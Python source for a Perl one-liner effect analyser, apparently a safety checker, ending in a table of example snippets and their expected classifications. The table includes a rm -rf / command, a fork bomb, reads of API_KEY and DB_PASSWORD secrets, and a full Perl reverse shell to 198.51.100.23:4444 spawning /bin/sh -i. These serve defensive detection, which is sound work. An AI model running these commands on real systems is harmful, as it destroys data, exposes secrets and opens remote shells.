        kind = {"<": "", ">": "write", ">>": "append", "+<": "edit", "+>": "write", "+>>": "append"}.get(mode)
        if kind is None:
            self.out.append(uncertain("perl", f"open with {mode}"))
        else:
            self.out.extend(opened(path.strip(), kind))

    def _effect(self, name: str, at: int) -> None:
        kind = _EFFECTS[name]
        values = self._arguments(at)
        if kind == "pure":
            return
        if kind == "run":
            if at + 1 < len(self.tokens) and (
                self.tokens[at + 1].text == "{"
                or (
                    self.tokens[at + 1].text == "("
                    and at + 2 < len(self.tokens)
                    and self.tokens[at + 2].text == "{"
                )
            ):
                self.out.append(uncertain("perl", f"{name} with a block"))
            if len(values) == 1 and values[0] != MANY:
                self.out.append(RunShell(values[0]))
            else:
                self.out.append(RunCommand(tuple(values) or (UNKNOWN, MANY)))
            return
        values = [UNKNOWN if value == MANY else value for value in values] or [UNKNOWN]
        out = self.out
        if kind in ("delete", "delete-tree"):
            values = [value for value in values if value not in ("1", "0")] or [UNKNOWN]
            out.extend(Effect(Kind.DELETE, value, recursive=kind == "delete-tree") for value in values)
        elif kind == "move":
            out.append(Effect(Kind.MOVE, values[0], to=values[1] if len(values) > 1 else UNKNOWN))
        elif kind == "copy":
            out.extend((*opened(values[0]), *opened(values[1] if len(values) > 1 else UNKNOWN, "write")))
        elif kind == "link":
            out.append(Effect(Kind.WRITE, values[1] if len(values) > 1 else UNKNOWN, "link", to=values[0]))
        elif kind == "mode":
            mode = values[0].lstrip("0") or UNKNOWN
            out.extend(Effect(Kind.MODE, value, mode) for value in values[1:] or [UNKNOWN])
        elif kind == "owner":
            out.extend(Effect(Kind.OWNER, value, values[0]) for value in values[2:] or [UNKNOWN])
        elif kind == "touch":
            for value in values[2:] or [UNKNOWN]:
                out.extend(opened(value, "create"))
        elif kind == "list":
            out.extend(opened(values[1] if len(values) > 1 else UNKNOWN))
        elif kind == "kill":
            out.extend(Effect(Kind.PROCESS, value, f"kill {values[0]}") for value in values[1:] or [UNKNOWN])
        elif kind == "chdir":
            out.append(uncertain("perl", "a change of directory"))
        elif kind == "fetch":
            out.append(Effect(Kind.NETWORK, values[0], "download"))
            if name == "getstore":
                out.extend(opened(values[1] if len(values) > 1 else UNKNOWN, "write"))
        else:
            out.extend(opened(values[0], "" if kind == "read" else kind))

    def _fork(self, at: int) -> None:
        near = " ".join(t.text for t in self.tokens[max(0, at - 6) : at + 4])
        if re.search(
            r"while \( ?1|while (\( )?fork|fork while|while \( fork|for \( ; ;|until 0", near
        ) or near.strip().startswith("fork while"):
            self.out.append(Effect(Kind.SYSTEM, "the process table", "fork bomb", force="critical"))
        else:
            self.out.append(uncertain("perl", "fork"))

    def _peer(self, at: int) -> str:
        for index in range(at, min(len(self.tokens), at + 60)):
            if self.tokens[index].text in ("PeerAddr", "PeerHost") and index + 2 < len(self.tokens):
                value = self._values([self.tokens[index + 2]])
                return value[0].partition(":")[0] if value else UNKNOWN
        return UNKNOWN

    def _network(self, name: str, at: int) -> None:
        if name in ("connect", "gethostbyname", "inet_aton"):
            host = UNKNOWN
            for index in range(at, min(len(self.tokens), at + 40)):
                if self.tokens[index].text in ("inet_aton", "gethostbyname"):
                    values = self._arguments(index)
                    host = values[0] if values else UNKNOWN
                    break
            if name == "connect":
                self.out.append(Effect(Kind.NETWORK, host, "connect"))
                if any(t.text in ("exec", "system") for t in self.tokens):
                    self.out.append(Effect(Kind.NETWORK, host, "shell"))
            elif name == "gethostbyname":
                self.out.append(Effect(Kind.NETWORK, host, "request"))
        elif name in ("bind", "listen"):
            self.out.append(Effect(Kind.NETWORK, UNKNOWN, "listen"))


_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "a": "\a",
    "e": "\x1b",
    "f": "\f",
    "$": "$",
    "@": "@",
    "\\": "\\",
    '"': '"',
}

EXAMPLES: tuple[tuple[str, str], ...] = (
    ("print $F[0]", ""),
    ("s/a(b+)/$1/g", ""),
    ("s/\\r//g; s{x}{y}gi; tr/a-z/A-Z/; y/a/b/", ""),
    ('print "$1\\n" if /^(\\w+)\\s/ and $. > 3', ""),
    ('$h{$_}++; END { print "$_ $h{$_}\\n" for sort { $h{$b} <=> $h{$a} } keys %h }', ""),
    ("my @a = map { $_ * 2 } grep { $_ % 2 } 1..10; print join(',', @a), \"\\n\"", ""),
    ("BEGIN { $/ = undef } print length", ""),
    ("use POSIX qw(strftime); print strftime('%F', localtime), \"\\n\"", ""),
    ("print while <>", ""),
    ("s/(\\d+)/$1+1/e", ""),
    ("s/x/system('id')/e", "shell 'id'"),
    ("s/x/$y/ee", "execute s///ee inline perl code !uncertain"),
    ("system('rm -rf /')", "shell 'rm -rf /'"),
    ("exec '/bin/sh'", "shell '/bin/sh'"),
    ("system 'rm', '-rf', '/'", "run rm -rf /"),
    ("print `id`", "shell 'id'"),
    ("print qx{id}", "shell 'id'"),
    ("unlink 'a', 'b'", "delete a; delete b"),
    ("unlink glob('*.log')", "delete *.log"),
    ("unlink $_", "delete …"),
    ("rename 'a', 'b' or die", "move a -> b"),
    ("open(my $f, '<', 'a.txt') or die; print <$f>", "read a.txt"),
    ("open(F, '>out')", "write out"),
    ("open F, '>>', 'out'", "write append out"),
    ("open(F, 'id|'); print <F>", "shell 'id'"),
    ("open F, '| sh'", "shell 'cat | sh'"),
    ("print $ENV{HOME}, $ENV{API_KEY}", "secret $API_KEY"),
    ('print "$ENV{DB_PASSWORD}"', "secret $DB_PASSWORD"),
    ("print %ENV", "secret the environment variables"),
    ("print \"@{[ system('id') ]}\"", "execute code in a text inline perl code !uncertain"),
    ('print "${\\ `id`}"', "execute code in a text inline perl code !uncertain"),
    ("/(?{ system 'id' })/", "execute code in a pattern inline perl code !uncertain"),
    ("eval 'unlink \"x\"'", "code perl 'unlink \"x\"'"),
    ("require 'x.pl'", "execute require inline perl code !uncertain"),
    ("use Evil", "execute the module Evil inline perl code !uncertain"),
    ("&{'sys'.'tem'}('id')", "execute what follows & inline perl code !uncertain"),
    ("$x->('id')", "execute a call through a variable inline perl code !uncertain"),
    ("fork while 1", "system fork bomb the process table !critical"),
    ('use Socket;$i="198.51.100.23";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};', "network connect 198.51.100.23; network shell 198.51.100.23; shell '/bin/sh -i'"),
)  # fmt: skip
